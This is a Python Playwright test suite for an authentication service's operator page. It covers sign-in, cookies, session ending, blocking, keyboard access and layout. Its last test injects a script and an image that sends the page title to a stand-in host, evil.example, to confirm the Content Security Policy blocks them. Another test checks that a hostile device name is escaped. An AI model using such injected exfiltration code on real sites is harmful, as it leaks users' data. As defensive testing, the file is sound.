"""The operator's page in a real browser: what operators do there, by mouse, by keyboard, and read aloud."""

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Route, expect
from tests.browser.office import HOSTILE, Desk, Office, open_office
from tests.browser.window import LOOKS, NARROW

SUBJECT = "facebook|1000000000000001"
expect.set_options(timeout=20_000)
PATHS = {
    "overview": "/",
    "refusals": "/refusals",
    "keys": "/keys",
    "search": "/subject",
    "subject": f"/subject?subject={SUBJECT.replace('|', '%7C')}",
    "confirm": f"/confirm?action=block&subject={SUBJECT.replace('|', '%7C')}",
}


@pytest.fixture(scope="module")
def office(connections: dict[str, dict[str, Any]], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    """A server at which a lot has happened."""
    folder: Path = tmp_path_factory.mktemp("office")
    with open_office(folder, connections) as one:
        for person, device in (
            ("ada", "Ada's phone"),
            ("ada", HOSTILE),
            ("grace", ""),
            ("yuki", "雪の電話"),
            ("alan", ""),
        ):
            one.login(f"EAAsim-good-{person}", device=device)
        for kind in ("expired", "foreign_app", "no_permission", "revoked", "bad_app_secret", "expired"):
            one.login(f"EAAsim-{kind}-ada")
        one.login("EAAsim-good-max", client="game")
        one.login("2.00sim-good-ada", connection="weibo")
        for _ in range(6):
            one.login("2.00sim-down-ada", connection="weibo")
        yield one


@pytest.fixture
def desk(browser: Browser, office: Office) -> Iterator[Desk]:
    with Desk(browser, office) as one:
        yield one


def test_a_wrong_token_is_refused_and_the_right_one_opens_the_page_until_signing_out(desk: Desk) -> None:
    page = desk.page
    desk.sign_in("aop_wrong")
    expect(page.get_by_role("alert")).to_have_text("That is not the token.")
    assert desk.said.pop() == "Failed to load resource: the server responded with a status of 403 (Forbidden)"
    desk.sign_in()
    expect(page).to_have_title("Overview – Accredit operator")
    [cookie] = desk.context.cookies()
    room = page.url.removeprefix(desk.office.page)
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", room)
    assert desk.context.cookies("http://127.0.0.1:9999/") == []  # ports are nothing to a cookie
    assert desk.context.cookies(f"http://127.0.0.1:9999{room}") == [cookie]
    assert page.evaluate("document.cookie") == ""
    assert desk.office.token not in page.content()
    page.get_by_role("button", name="Sign out").click()
    expect(page).to_have_title("Sign in – Accredit operator")
    page.goto(f"{desk.office.page}{room}refusals")
    expect(page).to_have_title("Sign in – Accredit operator")


def test_a_login_appears_by_itself_and_without_scripts_by_a_link(browser: Browser, office: Office) -> None:
    with Desk(browser, office) as live, Desk(browser, office, java_script_enabled=False) as plain:
        for desk in (live, plain):
            desk.sign_in()
        office.login("EAAsim-good-sappho")
        row = "facebook|1000000000000003"
        expect(live.page.get_by_role("link", name=row)).to_be_visible()
        expect(plain.page.get_by_role("button", name="Pause")).to_have_count(0)
        plain.page.get_by_role("link", name="Refresh").click()
        if not plain.page.get_by_role("link", name=row).count():  # another worker has seen it, and says so each second
            plain.page.wait_for_timeout(1500)
            plain.page.get_by_role("link", name="Refresh").click()
        expect(plain.page.get_by_role("link", name=row)).to_be_visible()


def test_while_it_is_paused_or_somebody_reads_a_part_nothing_moves(desk: Desk) -> None:
    desk.sign_in()
    page = desk.page
    page.get_by_role("button", name="Pause").click()
    expect(page.get_by_role("button", name="Go on")).to_be_focused()
    before = page.locator("#as-of").inner_text()
    page.wait_for_timeout(6000)
    assert page.locator("#as-of").inner_text() == before
    page.get_by_role("button", name="Go on").click()
    expect(page.locator("#as-of")).not_to_have_text(before)
    link = page.get_by_role("link", name="facebook|1000000000000001").first
    link.focus()
    as_of = page.locator("#as-of").inner_text()
    expect(page.locator("#as-of")).not_to_have_text(as_of)
    expect(link).to_be_focused()


def test_it_says_when_what_it_shows_is_old_and_when_somebody_has_to_sign_in_again(desk: Desk) -> None:
    desk.sign_in()
    expect(desk.page).to_have_title("Overview – Accredit operator")
    desk.context.set_offline(True)
    expect(desk.page.locator("#trouble")).to_have_text("The server does not answer; what stands here is old.")
    desk.context.set_offline(False)
    expect(desk.page.locator("#trouble")).to_have_text("")
    asked: list[Route] = []  # and nobody answers
    desk.page.route("**/*", lambda route: asked.append(route))
    expect(desk.page.locator("#trouble")).to_have_text("The server does not answer; what stands here is old.")
    desk.page.wait_for_timeout(6000)
    assert len(asked) <= 3  # one after another
    desk.page.unroute_all(behavior="ignoreErrors")
    expect(desk.page.locator("#trouble")).to_have_text("")
    desk.context.clear_cookies()
    expect(desk.page).to_have_title("Sign in – Accredit operator")
    desk.said.clear()  # the browser's own words for what it could not load


def test_a_session_is_ended_and_then_the_subject_is_blocked(desk: Desk) -> None:
    status, tokens = desk.office.login("EAAsim-good-grace", device="Grace's tablet")
    assert status == 200
    desk.sign_in()
    page = desk.page
    page.get_by_role("link", name="Subjects").click()
    page.get_by_label("Subject").fill("facebook|1000000000000002")
    page.get_by_role("button", name="Search").click()
    page.get_by_role("row", name="Grace's tablet").get_by_role("link", name="End …").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("End the session?")
    page.get_by_role("button", name="End the session").click()
    expect(page.get_by_role("status")).to_have_text("The session has ended.")
    assert desk.office.refresh(tokens) == 403
    page.get_by_role("link", name="Block …").click()
    page.get_by_role("link", name="Cancel").click()
    assert desk.office.login("EAAsim-good-grace")[0] == 200
    page.get_by_role("link", name="Block …").click()
    page.get_by_role("button", name="Block").click()
    expect(page.get_by_role("status")).to_have_text("The subject is blocked, and its sessions have ended.")
    assert desk.office.login("EAAsim-good-grace")[0] == 401
    page.get_by_role("link", name="Let it log in again …").click()
    page.get_by_role("button", name="Unblock").click()
    assert desk.office.login("EAAsim-good-grace")[0] == 200
    told = [line for line in desk.office.server.said if '"by": "operator"' in line]
    assert ["session.ended" in line or "subject." in line for line in told] == [True] * 3


def test_everything_can_be_done_by_the_keyboard_alone(desk: Desk) -> None:
    page = desk.page
    page.goto(desk.office.page)
    expect(page.get_by_label("Token")).to_be_focused()
    page.keyboard.type(desk.office.token)
    page.keyboard.press("Enter")
    expect(page).to_have_title("Overview – Accredit operator")
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
    assert page.evaluate("document.activeElement.getBoundingClientRect().top") >= 0
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Refresh")).to_be_focused()
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline != "none"
    desk.goto("/refusals")
    page.get_by_text("Checks and calls").first.focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("table").first).to_be_visible()


@pytest.mark.parametrize("look", LOOKS)
def test_every_page_is_accessible_and_fits_the_screen(browser: Browser, office: Office, look: str) -> None:
    with Desk(browser, office, **LOOKS[look]) as desk:
        desk.goto("/sign-in")
        assert desk.violations() == []
        desk.picture(f"sign-in-{look}")
        desk.sign_in()
        expect(desk.page).to_have_title("Overview – Accredit operator")
        for name, path in PATHS.items():
            desk.goto(path)
            for summary in desk.page.locator("summary").all()[:2]:
                summary.click()
            assert desk.violations() == [], name
            assert not desk.is_wider_than_the_screen(), name
            desk.picture(f"{name}-{look}")


def test_on_a_phone_a_session_is_ended_without_scrolling_sideways(browser: Browser, office: Office) -> None:
    with Desk(browser, office, **NARROW) as desk:
        desk.sign_in()
        expect(desk.page).to_have_title("Overview – Accredit operator")
        desk.goto(PATHS["subject"])
        for link in desk.page.get_by_role("link", name="End … session").all():
            box = link.bounding_box()
            assert box is not None
            assert box["x"] + box["width"] <= NARROW["viewport"]["width"]


def test_what_users_call_their_devices_runs_nothing(desk: Desk) -> None:
    desk.sign_in()
    expect(desk.page).to_have_title("Overview – Accredit operator")
    desk.goto(PATHS["subject"])
    shown = HOSTILE.replace("\u202e", "\\u202e")
    expect(desk.page.get_by_role("cell", name=shown)).to_be_visible()
    assert desk.page.locator("main img").count() == 0
    expect(desk.page).to_have_title("Subjects – Accredit operator")


def test_what_a_page_may_do_is_little_even_if_somebody_wrote_into_it(desk: Desk) -> None:
    desk.sign_in()
    expect(desk.page).to_have_title("Overview – Accredit operator")
    desk.page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "document.title = 'owned'";
            document.body.append(script);
            const frame = document.createElement("img");
            frame.src = "https://evil.example/?" + document.title;
            document.body.append(frame);
        }"""
    )
    expect(desk.page).to_have_title("Overview – Accredit operator")
    desk.page.wait_for_function("performance.now() > 0")
    assert len([line for line in desk.said if "Content Security Policy" in line]) == 2
    desk.said.clear()
